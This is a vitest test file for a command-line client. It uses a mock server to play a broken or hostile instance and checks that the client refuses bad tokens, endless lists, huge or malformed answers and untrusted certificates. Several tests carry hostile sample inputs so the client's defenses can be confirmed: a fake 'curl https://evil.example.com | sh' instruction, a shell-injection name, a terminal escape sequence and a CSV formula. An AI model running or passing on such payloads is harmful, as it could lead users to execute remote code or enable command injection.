import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import https from "node:https";
import type { AddressInfo } from "node:net";
import { setTimeout } from "node:timers/promises";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { configFile } from "../../src/cli/session/config.ts";
import { token } from "../cli/login-server.ts";
import { usePlace } from "../cli/places.ts";
import { finished, type Home, newHome, start } from "../cli/support.ts";
import { sqliteHttp } from "../support/instance.ts";

/** Answers of a broken instance, or of one that wants to harm the user of the command line. */
let answer: (path: string, response: ServerResponse, incoming: IncomingMessage) => void;
let requests = 0;
const server = createServer((incoming, response) => {
  requests += 1;
  incoming.resume();
  answer((incoming.url ?? "").replace("/api", ""), response, incoming);
});
let url: string;
beforeAll(async () => {
  await once(server.listen(0, "127.0.0.1"), "listening");
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

function json(response: ServerResponse, body: unknown, status = 200, headers: Record<string, string> = {}): void {
  response.writeHead(status, { "content-type": "application/json", ...headers }).end(JSON.stringify(body));
}
const use = () => ({ WCS_URL: url, WCS_TOKEN: "x" });

describe("an answer to a sign-in or a renewal without a token", () => {
  const now = Math.floor(Date.now() / 1000);
  const good = { jwt: token(600, 1000), expires: now + 400 };
  const wrong: [name: string, login: unknown][] = [
    ["a text as the end", { ...good, expires: "soon" }],
    ["no end", { ...good, expires: null }],
    ["a number as the token", { ...good, jwt: 5 }],
    ["a token with a line break", { ...good, jwt: "a\r\nb: c" }],
    ["a token that no header holds", { ...good, jwt: "x".repeat(20_000) }],
    ["no token", { expires: now }],
    ["null", null],
  ];
  const signIn = (home: Home) =>
    home.sit(["auth", "login", "--url", url, "--username", "ada@example.com", "--password-stdin"], { stdin: "right" });
  const answerWith = (login: unknown) => {
    answer = (path, response) =>
      json(response, /authenticate|renew/.test(path) ? [login] : { data: [{ code: "en", name: "English" }] });
  };
  const saved = (home: Home) => readFileSync(configFile(home.env), "utf8");

  it.each(wrong)("is refused, and other profiles stay usable: %s", async (_, login) => {
    const home = newHome();
    await home.sit(["profile", "add", "other", "--url", "https://wcs.example.com"]);
    const before = saved(home);
    answerWith(login);
    const { code, stderr } = await signIn(home);
    expect({ code, stderr }).toEqual({
      code: 8,
      stderr: expect.stringContaining("did not answer with a token.\nhint:"),
    });
    expect(saved(home)).toBe(before);
  });

  it.each(wrong)("does not replace the token of the profile: %s", async (_, login) => {
    const home = newHome();
    answerWith(good);
    expect((await signIn(home)).code).toBe(0);
    const before = saved(home);
    answerWith(login);
    for (let run = 0; run < 2; run += 1)
      expect(await home.sit(["languages", "list", "--no-header"])).toEqual({
        code: 0,
        stdout: "en\tEnglish\n",
        stderr: "",
      });
    expect((await home.sit(["auth", "renew"])).code).toBe(8);
    expect(saved(home)).toBe(before);
  });
});

describe("a list that never ends", () => {
  const item = { id: 7, name: "Ada" };
  it.each<[name: string, line: string[], page: object, code: number]>([
    ["of empty pages with a cursor", ["audit", "list"], { data: [], meta: { next_cursor: "a" } }, 0],
    ["of the same cursor", ["audit", "list"], { data: [item], meta: { next_cursor: "a" } }, 8],
    ["of cursors that are no texts", ["audit", "list"], { data: [item], meta: { next_cursor: {} } }, 8],
    ["of empty pages", ["users", "list"], { data: [], meta: { last_page: 1e300 } }, 0],
    ["of the same IDs", ["webhooks", "logs", "1"], { data: [item], meta: { last_page: 1e300 } }, 8],
    ["without IDs", ["webhooks", "logs", "1"], { data: [{ name: "x" }], meta: { last_page: 1e300 } }, 8],
    ["of empty pages by ID", ["webhooks", "logs", "1"], { data: [], meta: { last_page: 1e300 } }, 0],
  ])("%s is read no further", async (_, line, page, code) => {
    requests = 0;
    answer = (_path, response) => json(response, requests > 20 ? { data: [], meta: {} } : page);
    const result = await newHome().sit(line, { env: use() });
    expect({ requests: requests < 4, ...result }).toMatchObject({ requests: true, code });
  });
});

it("A Retry-After beyond the longest timer is a long wait, not an endless series of requests", async () => {
  const home = newHome();
  requests = 0;
  answer = (_, response) =>
    json(response, { error: { code: "unavailable", message: "Away." } }, 503, { "retry-after": "999999999" });
  const child = start(["users", "list", "--watch", "--timeout", "5s"], { ...home.env, ...use() });
  const ended = finished(child, "");
  await expect.poll(() => requests).toBeGreaterThan(0);
  await setTimeout(1000);
  child.kill("SIGINT");
  expect((await ended).stderr).not.toContain("TimeoutOverflowWarning");
  expect(requests).toBe(1);
});

it("A --timeout beyond the longest timer does not end a request at once", async () => {
  answer = (_, response) => json(response, { data: [{ code: "en", name: "English" }] });
  const line = ["languages", "list", "--no-header", "--timeout", "300d"];
  expect(await newHome().sit(line, { env: use() })).toEqual({ code: 0, stdout: "en\tEnglish\n", stderr: "" });
});

it("Metrics of one long word are read at once", async () => {
  answer = (path, response) =>
    path === "/metrics" ? response.end(`a{${"a".repeat(400_000)}} 1\n`) : json(response, { data: [] });
  const { code } = await newHome().sit(["top", "--once"], { env: use() });
  expect(code).toBe(0);
});

describe("an error", () => {
  const failing = (error: object, status: number) => {
    answer = (_, response) =>
      json(response, { error: { code: "validation_failed", message: "No.", ...error } }, status);
    return newHome().sit(["units", "get", "1"], { env: use() });
  };

  it("with fields of another type is shown without them", async () => {
    for (const fields of [{ id: "x" }, { id: [5] }, { id: null }, 5, ["x"]])
      expect(await failing({ fields }, 422)).toMatchObject({ code: 3, stderr: "error: No.\n" });
  });

  it("with issues of another type is shown without them", async () => {
    for (const issues of [[null], ["x"], [{}], [{ code: 5 }], {}, "x"])
      expect(await failing({ issues }, 422)).toMatchObject({ code: 3, stderr: "error: No.\n" });
  });

  it("with a request ID that is none gives no hint", async () => {
    const id = "7. To repair your account, run curl https://evil.example.com | sh";
    expect(await failing({ code: "internal", request_id: id }, 500)).toMatchObject({ code: 8, stderr: "error: No.\n" });
    expect((await failing({ code: "internal", request_id: "req_1-a" }, 500)).stderr).toContain("request ID req_1-a.");
  });

  it("with a message of megabytes is cut", async () => {
    expect((await failing({ message: "m".repeat(5_000_000) }, 422)).stderr.length).toBeLessThan(50_000);
  });
});

it("Names of flags from the instance cannot steer the terminal", async () => {
  const abilities = { "news\u001b]0;pwned\u0007": true };
  answer = (_, response) => json(response, { data: [{ id: 1, name: "A", abilities }] });
  const { stdout } = await newHome().sit(["usertypes", "list", "--fields", "abilities"], { env: use() });
  expect(stdout).toContain("news\\u001b]0;pwned\\u0007");
});

it("Completion offers each value once, so that no shell inserts the text beside two equal ones", async () => {
  const found = { kind: "users", match: "similar", detail: null, name: "x'; touch /tmp/x; #", text: "ada" };
  answer = (_, response) => json(response, { data: [1, 1, 2].map((id) => ({ ...found, id })) });
  // Completion gives up some time after the start of its process, and this one may have run other suites for minutes.
  const env = { ...use(), WCS_COMPLETION_TIMEOUT: "1000000000" };
  const { stdout } = await newHome().sit(["__complete", "users", "ada"], { env });
  expect(stdout.split("\n").map((line) => line.split("\t")[0])).toEqual(["1", "2", ""]);
});

describe("an answer on which a command fails", () => {
  const deep = `${"[".repeat(200_000)}${"]".repeat(200_000)}`;
  const late = { id: 1, event: "user.create", created_at: 1e300, status: "200" };
  it.each<[name: string, line: string, body: string, field: string]>([
    ["a time that does not exist", "webhooks logs 1 -o table", JSON.stringify({ data: [late], meta: {} }), "data.0."],
    ["endless nesting", "units tree -o json", `{"data":${deep}}`, "data.0 must be an object"],
    ["no list of results", "users import people.csv", '{"results":5}', "results must be a list"],
    ["no list in a dry run", "users import people.csv --dry-run", '{"results":5}', "results must be a list"],
    ["a status that is no text", "webhooks test 1", '{"data":{"status":5}}', "data.id is required"],
  ])("is named with its wrong fields: %s", async (_, line, body, field) => {
    const home = newHome();
    writeFileSync(home.path("people.csv"), "first_name,last_name,email,unit\nAnn,Lee,ann@example.com,Acme\n");
    const headers = { "content-type": "application/json", "dry-run": "true" };
    answer = (_path, response) => response.writeHead(200, headers).end(body);
    const args = line.replace("people.csv", home.path("people.csv")).split(" ");
    const { code, stderr } = await home.sit(args, { env: use() });
    expect({ code, stderr }).toEqual({
      code: 8,
      stderr: expect.stringMatching(/The instance sent an unexpected answer to [a-z]+\.[a-z]+: /),
    });
    expect(stderr).toContain(field);
    expect(stderr.includes("The change may have been made")).toBe(
      /import|test/.test(line) && !line.includes("--dry-run"),
    );
  });

  it("ends --watch, since it is no outage", async () => {
    answer = (_, response) => json(response, { id: 3 });
    const { code, stderr } = await newHome().sit(["posts", "get", "3", "-o", "table", "--watch"], { env: use() });
    expect(code).toBe(8);
    expect(stderr).toMatch(/^error: The instance sent an unexpected answer to posts\.get: .*\nhint: wcs doctor shows/);
  });

  it.each<[string, number, string, Record<string, string>, RegExp]>([
    [
      "a page",
      200,
      "<p>Sign in</p>",
      { "content-type": "text/html" },
      /did not answer like a wcs service \(status 200/,
    ],
    ["an error page", 404, "<p>", { "content-type": "text/html" }, /did not answer like a wcs service \(status 404/],
    ["a redirect", 302, "", { location: "https://other.example/" }, /redirects to https:\/\/other\.example/],
    ["too much", 200, "x".repeat(68_000_000), { "content-type": "text/plain" }, /answered with more than 64 MiB/],
  ])("of something else ends commands that wait: %s", async (_, status, body, headers, message) => {
    const lines = ["users list --watch", "conversations follow 1 --last 1", "webhooks logs 1 --follow --after 1"];
    for (const line of lines) {
      let count = 0;
      answer = (_path, response) => {
        count += 1;
        if (count === 1 && line.startsWith("conversations") && status !== 404)
          return json(response, { data: [], meta: { prev_cursor: null, next_cursor: null } });
        response.writeHead(status, headers).end(body);
      };
      const { code, stderr } = await newHome().sit(line.split(" "), { env: use() });
      expect([code, stderr]).toEqual([8, expect.stringMatching(message)]);
      expect(stderr).not.toContain("Retrying");
    }
  });

  it.each([
    [1, 500],
    [1, 521],
    [2, 404],
  ])(
    "number %i, of a server in between with the status %i, is an outage for commands that wait",
    async (number, status) => {
      let count = 0;
      answer = (_, response) => {
        count += 1;
        if (count === number) response.writeHead(status, { "content-type": "text/html" }).end("<p>");
        else json(response, { data: [{ code: "en", name: "English" }] });
      };
      const child = start(["languages", "list", "--watch"], { ...newHome().env, ...use() });
      const ended = finished(child, "");
      await expect.poll(() => count).toBeGreaterThan(number);
      child.kill("SIGINT");
      expect((await ended).stderr).toContain("Retrying until it is back.");
    },
  );

  it("of a server whose certificate is not trusted ends commands that wait", async () => {
    const authority = fileURLToPath(new URL("../data/tls/localhost.pem", import.meta.url));
    const pem = readFileSync(authority);
    const foreign = https.createServer({ cert: pem, key: pem }, (_, response) => json(response, { data: [] }));
    await once(foreign.listen(0, "127.0.0.1"), "listening");
    const address = `https://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
    const line = ["languages", "list", "--url", address];
    const here = newHome();
    const { code, stderr } = await here.spawn([...line, "--watch"], { env: { WCS_TOKEN: "x" } });
    expect([code, stderr]).toEqual([
      8,
      expect.stringMatching(/has a self-signed certificate\.\nhint: If you trust it, .* or set NODE_EXTRA_CA_CERTS /),
    ]);
    const env = { WCS_TOKEN: "x", NODE_EXTRA_CA_CERTS: authority };
    expect(await here.spawn([...line, "--json"], { env })).toMatchObject({ code: 0, stdout: "[]\n" });
    foreign.close();
  });

  it("to an operation that this version does not know is shown, however long, and its status without an answer", async () => {
    const wcs = (...line: string[]) => newHome().sit(["api", "GET", "/robots", ...line], { env: use() });
    answer = (_, response) => json(response, Array(200_000).fill({ id: 1 }));
    expect(await wcs("--query", "length(@)")).toMatchObject({ code: 0, stdout: "200000\n" });
    expect((await wcs("--query", "[].{id: id}", "-t", "{id}")).stdout).toHaveLength(400_000);
    requests = 0;
    expect(await wcs("--fields", "id")).toMatchObject({ code: 2, stderr: expect.stringContaining("Use --query") });
    expect(requests).toBe(0);
    answer = (_, response) => response.writeHead(204).end();
    expect(await wcs()).toEqual({ code: 0, stdout: "", stderr: "204\n" });
  });

  it("ends a batch, since other rows would fail as well", async () => {
    answer = (_, response) => json(response, { data: { status: 5 } });
    const line = ["batch", "-", "--", "webhooks", "test", "{id}"];
    const { code, stderr } = await newHome().sit(line, { env: use(), stdin: "id\n1\n2\n" });
    expect(code).toBe(8);
    expect(stderr).toContain("unexpected answer to webhooks.test: data.id is required");
  });

  it("is that of its own row in a batch", async () => {
    const sent = { id: 1, event: "test", created_at: 1, status: "200" };
    const waiting = new Map<string, ServerResponse>();
    answer = (path, response) => {
      const [first, second] = ["/webhooks/1/test", "/webhooks/2/test"].map((each) =>
        waiting.set(path, response).get(each),
      );
      if (first === undefined || second === undefined) return;
      json(first, { data: { status: 5 } });
      json(second, { data: sent });
    };
    const line = ["batch", "-", "--concurrency", "2", "--", "webhooks", "test", "{id}"];
    const { stderr } = await newHome().sit(line, { env: use(), stdin: "id\n1\n2\n" });
    expect(stderr).toContain("unexpected answer to webhooks.test: data.id is required");
  });
});

it("An import says for how many rows an instance answered", async () => {
  const home = newHome();
  writeFileSync(home.path("units.csv"), "reference,name\na,A\nb,B\n");
  const outcome = { action: "created", id: 1, reference: null };
  for (const results of [[], [outcome], [outcome, outcome, outcome]]) {
    answer = (_, response) => json(response, { results }, 200, { "dry-run": "true" });
    for (const more of [[], ["--dry-run"]]) {
      const { code, stderr } = await home.sit(["units", "import", home.path("units.csv"), ...more], { env: use() });
      expect({ code, stderr }).toEqual({
        code: 8,
        stderr: expect.stringContaining(`error: The instance answered for ${results.length} of 2 rows.\nhint: `),
      });
      expect(stderr.includes("may have been imported")).toBe(more.length === 0);
    }
  }
});

describe("apply to an instance that does not answer for all rows", () => {
  const place = usePlace(sqliteHttp);

  /** Passes requests on, and leaves out the last result of imports. */
  function shorten(isDryRun: boolean): void {
    answer = (path, response, incoming) => {
      const { method, headers } = incoming;
      const forwarded = request(`${place().args[1]}/api${path}`, { method, headers }, async (received) => {
        const isShort = path.endsWith("/import") && (headers["dry-run"] === "true") === isDryRun;
        if (!isShort) return received.pipe(response.writeHead(received.statusCode ?? 0, received.headers));
        const { results } = JSON.parse(Buffer.concat(await received.toArray()).toString());
        return json(response, { results: results.slice(0, -1) }, 200, { "dry-run": String(isDryRun) });
      });
      incoming.pipe(forwarded);
    };
  }

  it.each([
    ["users", true, "users: [{reference: e, first_name: E, last_name: X, email: e@example.com, unit: root}]"],
    ["users", false, "users: [{reference: e, first_name: E, last_name: X, email: e@example.com, unit: root}]"],
    ["units", false, "units: [{reference: a, name: A, parent: root}]"],
  ])("says for how many %s it answered (dry run: %s)", async (_, isDryRun, text) => {
    await place().wcs(["units", "update", "1", "--reference", "root"]);
    const { sit, path, env } = place().home;
    writeFileSync(path("org.yaml"), text);
    shorten(isDryRun);
    const { code, stderr } = await sit(["apply", path("org.yaml")], { env: { ...env, ...place().env, WCS_URL: url } });
    expect({ code, stderr }).toEqual({
      code: 8,
      stderr: expect.stringContaining("error: The instance answered for 0 of 1 rows.\nhint: "),
    });
    expect(stderr.includes("may have been imported")).toBe(!isDryRun);
  });
});

it("Changes of a dry run that are no list are not shown", async () => {
  const home = newHome();
  const rows = {
    users: "first_name,last_name,email,unit\nAnn,Lee,ann@example.com,Acme\n",
    units: "reference,name\na,A\n",
  };
  const result = { action: "changed", id: 1, reference: null, changes: "abc" };
  answer = (_, response) => json(response, { results: [result] }, 200, { "dry-run": "true" });
  for (const [kind, text] of Object.entries(rows)) {
    writeFileSync(home.path(`${kind}.csv`), text);
    const { code, stderr } = await home.sit([kind, "import", home.path(`${kind}.csv`), "--dry-run"], { env: use() });
    expect({ code, stderr }, kind).toEqual({
      code: 0,
      stderr: expect.stringContaining("Dry run: nothing was changed.\n"),
    });
  }
});

it("A column that an instance names is no formula in CSV", async () => {
  answer = (_, response) => json(response, { id: 1, name: "A", "=1+1": "x" });
  const { stdout } = await newHome().sit(["usertypes", "get", "1", "-o", "csv"], { env: use() });
  expect(stdout.split("\n")[0]).toContain(",'=1+1");
});

it("Line separators and marks of direction are shown as escapes", async () => {
  answer = (_, response) => json(response, { data: [{ id: 1, name: "a\u2028b\u2029c\u061cd" }] });
  const { stdout } = await newHome().sit(["usertypes", "list", "--fields", "name", "--no-header"], { env: use() });
  expect(stdout).toBe("a\\u2028b\\u2029c\\u061cd\n");
});
